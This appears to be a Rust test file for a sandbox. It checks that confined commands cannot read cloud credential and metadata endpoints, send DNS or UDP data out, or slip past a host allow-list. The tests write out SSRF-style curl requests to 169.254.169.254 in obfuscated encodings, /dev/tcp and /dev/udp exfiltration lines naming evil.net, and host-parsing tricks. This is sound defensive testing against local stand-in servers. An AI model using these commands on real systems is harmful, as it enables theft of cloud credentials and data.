//! 3 to 6: credentials, metadata, DNS, and lists of hosts. In a network of the tests' own, whose loopback has the
//! addresses at which clouds serve credentials, so that the controls get them.

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::process::Command as StdCommand;
use std::time::Duration;

use sandbox::{Hosts, Sandbox};

use super::unconfined;
use crate::common::{Bench, benches, is_root, settings};
use crate::connected::connected;

/// Gives the loopback interface addresses: a class B network brings all of 169.254.0.0/16 with it.
const ADDRESSES: &str = r#"use Socket qw(:all); socket(S, AF_INET, SOCK_DGRAM, 0) or die;
    $up = pack("a16 s x22", "lo", 0x49); ioctl(S, 0x8914, $up) or die "up: $!";
    $four = pack("a16 S n a4 x16", "lo:1", AF_INET, 0, inet_aton("169.254.170.2")); ioctl(S, 0x8916, $four) or die "four: $!";
    $six = inet_pton(AF_INET6, "fd00:ec2::254") . pack("L i", 128, 1);
    if (socket(T, AF_INET6, SOCK_DGRAM, 0)) { ioctl(T, 0x8916, $six); }"#;

#[test]
fn a3_to_6_in_a_network_with_endpoints() {
    if !is_root() {
        return;
    }
    let tests = std::env::current_exe().unwrap();
    let inner = "attacks::endpoints::a3_to_6_credentials_and_metadata_are_out_of_reach";
    let script =
        format!("perl -e '{ADDRESSES}' && exec {} --exact --ignored --nocapture {inner}", tests.display());
    let output = StdCommand::new("unshare").args(["-n", "bash", "-c", &script]).output().unwrap();
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && said.contains("1 passed"),
        "{said}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// What serves everybody who gets there; the first line of a request counts.
fn serve(listener: TcpListener) {
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let (mut head, mut chunk) = (Vec::new(), [0; 2_048]);
            // The whole head: what is not read is answered with a reset.
            while let Ok(length @ 1..) = stream.read(&mut chunk) {
                head.extend_from_slice(&chunk[..length]);
                if head.ends_with(b"\r\n\r\n") {
                    break;
                }
            }
            let moved = "HTTP/1.1 302 Found\r\nLocation: http://169.254.170.2/\r\nContent-Length: 0\r\n\r\n";
            let found = "HTTP/1.1 200 OK\r\nContent-Length: 15\r\n\r\nthe credentials";
            let redirects = String::from_utf8_lossy(&head).starts_with("GET /redirect");
            let _ = stream.write_all(if redirects { moved } else { found }.as_bytes());
        }
    });
}

#[tokio::test]
#[ignore = "a part of a3_to_6_in_a_network_with_endpoints"]
async fn a3_to_6_credentials_and_metadata_are_out_of_reach() {
    serve(TcpListener::bind("0.0.0.0:80").unwrap());
    let curl = "curl -sS --max-time 5";
    let mut ways: Vec<String> = [
        // 3: ECS. 4: EC2, also as one number, in hexadecimal and in octal.
        "http://169.254.170.2/v2/credentials/x",
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://127.0.0.1/redirect",
    ]
    .map(|url| format!("{curl} -L {url} | grep credentials"))
    .into();
    ways.push("exec 3<>/dev/tcp/169.254.170.2/80 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && grep -a credentials <&3".into());
    if let Ok(listener) = TcpListener::bind("[fd00:ec2::254]:80") {
        serve(listener);
        ways.push(format!("{curl} 'http://[fd00:ec2::254]/' | grep credentials"));
        ways.push(format!("{curl} 'http://[::ffff:169.254.169.254]/' | grep credentials || {curl} http://169.254.169.254 | grep credentials"));
    }
    for bench in benches(settings()).await {
        for way in &ways {
            assert!(unconfined(way).contains("the credentials"), "{way}");
            bench.failure(way).await;
            // With a network and everything public permitted, and with the redirecting host permitted: no more than that.
            for hosts in ["*", "*,127.0.0.1"] {
                let script = format!("export no_proxy= NO_PROXY=; {way}");
                let said = connected(&bench, &script, hosts).await.finished.output;
                assert!(!said.contains("the credentials"), "{hosts}: {way}: {said}");
            }
        }
        redirected(&bench).await;
    }
}

/// 6: a permitted host that leads on to one that is not.
async fn redirected(bench: &Bench) {
    let follow = "export no_proxy= NO_PROXY=; curl -sSL --max-time 5 http://127.0.0.1/redirect";
    let said = connected(bench, follow, "127.0.0.1").await;
    assert!(!said.finished.output.contains("the credentials"), "{}", said.finished.output);
    assert_eq!(said.refused.len(), 1, "{:?}", said.refused);
    // The control: the permitted host itself answers.
    let direct = "export no_proxy= NO_PROXY=; curl -sS http://127.0.0.1/direct";
    assert_eq!(connected(bench, direct, "127.0.0.1").await.finished.output, "the credentials");
}

#[tokio::test]
async fn a5_no_datagram_leaves_neither_to_a_resolver_nor_elsewhere() {
    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let port = resolver.local_addr().unwrap().port();
    let send = |text: &str| format!("exec 3<>/dev/udp/127.0.0.1/{port} && echo {text}.evil.net >&3");
    for bench in benches(settings()).await {
        bench.run(&send("secret")).await;
        connected(&bench, &send("secret"), "*").await;
    }
    // The control comes after them, and is the first that arrives.
    unconfined(&send("control"));
    let mut heard = [0; 64];
    let length = resolver.recv(&mut heard).unwrap();
    assert_eq!(&heard[..length], b"control.evil.net\n");
}

#[tokio::test]
async fn a5_no_resolver_is_asked_for_a_host_that_is_not_listed() {
    for bench in benches(settings()).await {
        let ask = |host: &str| {
            format!(
                "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3"
            )
        };
        let said = connected(&bench, &ask("c2VjcmV0.evil.net"), "example.org").await;
        assert!(said.finished.output.contains("403 Forbidden"), "{}", said.finished.output);
        // The control: one that is listed is asked for, and cannot be resolved (RFC 2606).
        let said = connected(&bench, &ask("c2VjcmV0.invalid"), "c2VjcmV0.invalid").await;
        assert!(said.finished.output.contains("cannot be resolved"), "{}", said.finished.output);
    }
}

#[tokio::test]
async fn a6_hosts_that_two_readers_read_differently_are_refused() {
    let Ok(sandbox) = Sandbox::start(settings()).await else { panic!("no level holds") };
    let bench = Bench { workspace: crate::common::folder(), sandbox };
    bench.sandbox.adopt(bench.workspace.path()).unwrap();
    let hosts: Hosts = "example.org".parse().unwrap();
    for host in
        ["example.org\\0.evil.net", "evil.net\\0.example.org", "ex\\303\\244mple.org", "example.org@evil.net"]
    {
        let ask = format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3"
        );
        let said = bench.sandbox.run_connected(bench.command(&ask), &hosts).await.unwrap();
        assert!(said.finished.output.starts_with("HTTP/1.1 400 "), "{host}: {}", said.finished.output);
    }
}
